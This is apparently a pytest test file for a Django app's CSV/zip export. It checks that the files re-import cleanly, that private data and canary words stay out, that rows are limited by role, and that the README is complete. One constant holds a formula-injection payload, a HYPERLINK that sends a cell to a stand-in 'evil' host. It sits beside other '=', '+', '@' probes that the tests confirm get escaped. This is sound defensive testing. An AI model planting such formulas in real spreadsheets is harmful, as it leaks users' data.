"""All that a coordinator sees, in one file: what is in it, what never is, and that our own import reads it back."""

import csv
import io
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from collab.models import Attendance, Collaboration, Seat
from government.models import Mandate
from metrics.exchange.kinds import KINDS
from metrics.exchange.mapping import guess, writing_of
from metrics.exchange.sheets import open_sheet
from metrics.exchange.staging import known_of
from metrics.exchange.takeaway.writing import write
from metrics.exchange.working import work_on
from metrics.models import Import, ImportRow
from partners.models import Answer, Survey
from tests import factories
from tests.collab.conftest import standing_world, world
from tests.collab.world import World
from tests.government import story as government
from tests.government.canary import CANARY
from tests.government.canary_world import Planted, plant

__all__ = ["standing_world", "world"]

EVIL = '=HYPERLINK("http://evil?"&A1)'
READ_BACK = {
    "organizations": "organizations", "people": "people", "meetings": "meetings", "commitments": "commitments",
    "readiness_ratings": "ratings", "resources": "resources", "mandates": "mandates",
}  # fmt: skip


def taken(seat: Seat) -> zipfile.ZipFile:
    """The file of a seat."""
    file = io.BytesIO()
    write(file, seat)
    return zipfile.ZipFile(file)


def rows(files: zipfile.ZipFile, name: str) -> list[dict[str, str]]:
    """The rows of one table by their columns."""
    text = files.read(f"{name}.csv").decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def text_of(files: zipfile.ZipFile) -> str:
    """Everything that is in it."""
    return "\n".join(files.read(name).decode() for name in files.namelist()).lower()


def coordinator_of(collaboration: Collaboration) -> Seat:
    """The one of the world."""
    return collaboration.seats.select_related("collaboration", "user").get(role="coordinator", to_on=None)


def previewed(seat: Seat, kind: str, content: bytes) -> Import:
    """What the import says of a table with the columns that it finds by itself."""
    sheet = open_sheet(content)
    batch = Import(
        collaboration=seat.collaboration, kind=kind, file_name="file.csv", content=content, asked_by=seat.user,
        state=Import.State.READING, writing=writing_of(sheet.peek(), language="en"),
    )  # fmt: skip
    batch.columns = guess(KINDS[kind], sheet.headers, sheet.peek(), known_of(batch))
    batch.save()
    work_on(batch)
    return batch


@pytest.fixture
def planted(world: World) -> Planted:
    """A collaboration with one of everything and a word that must not leave."""
    return plant(world)


def test_our_own_import_finds_every_column_and_nothing_to_change(planted: Planted):
    seat = coordinator_of(planted.world.collaboration)
    files = taken(seat)
    for name, kind in READ_BACK.items():
        content = files.read(f"{name}.csv")
        batch = previewed(seat, kind, content)
        head = open_sheet(content).headers
        found = {column: head[place] for column, place in batch.columns.items()}
        assert found == {one.name: one.name.strip("_").removesuffix("_id") for one in KINDS[kind].columns}, name
        there = len(rows(files, name))
        wrong = list(ImportRow.objects.filter(batch=batch).exclude(state="same").values("state", "before", "problems"))
        assert (batch.counts, wrong) == ({"same": there}, []), name
        assert there > 0, name


def test_awkward_names_and_numbers_come_back_as_they_were(coordinator: Seat):
    here = coordinator.collaboration
    evil = factories.organization(collaboration=here, name=EVIL, place="-1+1", website="")
    parted = factories.organization(collaboration=here, name="Health; Water | Land", parent=evil)
    number = factories.organization(collaboration=here, name=str(evil.pk))
    twice = [factories.person(organization=one, name="Ana Lima", email="") for one in (evil, parted)]
    other = factories.person(organization=number, name="São José, o velho", email="jose@example.org")
    meeting = factories.meeting(evil, parted, number, held_at=datetime(2025, 3, 1, 23, 30, tzinfo=UTC), topics="@now")
    Attendance.objects.create(collaboration=here, meeting=meeting, organization=number, person=other)
    factories.commitment(evil, None, person=twice[0], text="=1+1", made_on=date(2025, 3, 1), due_on=date(2025, 4, 1))
    factories.resource(
        organization=evil, text="Rooms", given_on=date(2025, 3, 3), amount=1234, unit_rate=Decimal("18.25")
    )
    government.mandate(body=parted, topic="Water, 1,5 km")
    Mandate.objects.update(decides="first line\nsecond, line")
    files = taken(coordinator)
    for name, kind in READ_BACK.items():
        there = len(rows(files, name))
        batch = previewed(coordinator, kind, files.read(f"{name}.csv")) if there else None
        assert batch is None or batch.counts == {"same": there}, name
    for name in files.namelist():
        if name.endswith(".csv"):
            cells = [cell for row in csv.reader(io.StringIO(files.read(name).decode("utf-8-sig"))) for cell in row]
            risky = [one for one in cells if one.startswith(("=", "+", "@", "\t", "\r"))]
            assert risky == [], name
    assert [one["parent"] for one in rows(files, "organizations") if one["name"] == parted.name] == [f"'{EVIL}"]
    assert {one["person"] for one in rows(files, "affiliations")} >= {str(one.pk) for one in twice}


def test_what_nobody_may_take_away_is_not_in_it(planted: Planted):
    """The same word is in a private note, contact data, evidence, a stance: only what the page shows goes out."""
    seat = coordinator_of(planted.world.collaboration)
    factories.meeting(factories.organization(name="Elsewhere"), note="elsewhere", topics="QUETZALCANARY")
    few, many = (
        closed_wave(seat.collaboration, size, opens_on=date(2025, month, 1), closes_on=date(2025, month, 28))
        for size, month in ((2, 3), (6, 5))
    )
    Answer.objects.create(
        collaboration=seat.collaboration, survey=few, rater=few.roster.first().organization, source="survey",
        rater_person=few.answers.first().rater_person, item="comment", text="QUETZALANSWER", counted_on=few.opens_on,
    )  # fmt: skip
    files = taken(seat)
    text = text_of(files)
    assert f"{CANARY} private note".lower() not in text
    assert "quetzalcanary" not in text
    assert "quetzalanswer" not in text
    shown = rows(files, "survey_results")
    assert {one["survey_id"] for one in shown} == {str(many.pk)}
    assert {one["mean"] for one in shown if one["mean"]} == {"2.5"}, shown
    assert f"{CANARY}3@example.org".lower() in text  # what the coordinator does see is there
    assert f"{CANARY} ability".lower() in text


def closed_wave(collaboration: Collaboration, size: int, **values: Any) -> Survey:
    """A closed wave in which as many organisations speak each of the next one."""
    found = [factories.organization(collaboration=collaboration) for _n in range(size)]
    survey = factories.survey(*found, closed_at=datetime(2025, 6, 1, tzinfo=UTC), **values)
    for place, one in enumerate(found):
        factories.answers(
            one, found[(place + 1) % size], trust=(2, 3, 2) if place % 2 else (3, 2, 3), survey=survey,
            rater_person=factories.person(organization=one), counted_on=survey.opens_on,
        )  # fmt: skip
    return survey


@pytest.mark.parametrize("role", ["funder", "partner", "liaison", "viewer"])
def test_each_table_is_cut_by_the_rights_of_the_seat_and_not_by_the_door_alone(planted: Planted, role: str):
    """Nobody but a coordinator comes so far; if the door were ever wider, names would still not go out."""
    seat = planted.world.collaboration.seats.select_related("collaboration", "user").filter(role=role).order_by("pk")[0]
    assert CANARY.lower() not in text_of(taken(seat))


def test_the_read_me_names_every_file_and_every_column(planted: Planted):
    files = taken(coordinator_of(planted.world.collaboration))
    told = files.read("README.txt").decode()
    assert "\r\n" in told
    for name in files.namelist():
        if name.endswith(".csv"):
            head = next(csv.reader(io.StringIO(files.read(name).decode("utf-8-sig"))))
            assert f"\r\n{name}" in told
            about = told.partition(f"\r\n{name}")[2].partition("\r\n\r\n")[0]
            assert [line.partition(":")[0].strip() for line in about.split("\r\n")[2:]] == head, name


def test_more_rows_ask_no_more_questions(coordinator: Seat):
    def asked() -> int:
        with CaptureQueriesContext(connection) as seen:
            taken(coordinator)
        return len(seen)

    def add(count: int) -> None:
        for _n in range(count):
            one, two = (factories.organization(collaboration=coordinator.collaboration) for _m in range(2))
            factories.meeting(one, two, people=(factories.person(organization=one),))
            factories.commitment(one, two)
            factories.decision(proposed=(one,), approved=(two,))
            factories.partner(one)

    add(1)
    asked()
    first = asked()
    add(4)
    assert asked() == first
